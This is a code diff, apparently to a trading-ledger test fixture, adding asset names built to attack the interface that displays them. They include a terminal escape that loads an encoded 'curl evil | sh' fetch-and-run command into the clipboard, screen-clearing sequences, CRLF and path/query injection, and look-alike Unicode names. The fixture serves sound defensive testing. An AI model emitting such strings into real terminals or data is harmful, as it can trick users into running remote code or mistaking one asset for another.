@@ -12,6 +12,15 @@ def demo_ledger() -> Ledger:
     return Ledger(_HOLDINGS, [Pair(base, quote) for quote in _QUOTES for base in _BASES if base != quote])
 
 
+def add_hostile_names(ledger: Ledger) -> None:
+    """Lets Spot hold assets, and opens pairs, of the names that nothing but an attack would have."""
+    for name in HOSTILE_NAMES:
+        ledger.hold(Account(Wallet.SPOT), name, _of("1"))
+        pair = Pair(name, "USDT")
+        ledger.pairs[pair.symbol] = pair
+        ledger.hold(Account(Wallet.ISOLATED, pair.symbol), name, _of("1"))
+
+
 def _of(free: str, *, locked: str = "0", held_back: str = "0", borrowed: str = "0", interest: str = "0") -> Holding:
     return Holding(Decimal(free), Decimal(locked), Decimal(held_back), Decimal(borrowed), Decimal(interest))
 
@@ -98,6 +107,21 @@ _BASES = [
     "INJ",
     "AAVE",
 ]
+
+HOSTILE_NAMES: Final = (
+    "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07",  # to a terminal: put a command into the clipboard
+    "\x1b[2J\x1b[HBTC",  # clear the screen
+    "\x9b?1049l",  # the same kind of command in one character
+    "BTC\r\nUSDT",
+    "US\u202eTD",  # written from right to left
+    "BT\u200bC",  # with a blank of no width
+    "ＢＴＣ",  # of full width
+    "[red]BTC[/red]",  # to Textual: a colour
+    "../BTC&asset=USDT",
+    "A" * 5000,
+    "",
+)
+"""What commands a terminal, looks like another name, or means something to the program that shows it."""
 
 PRICES_IN_BTC: Final = {
     asset: Decimal(price)
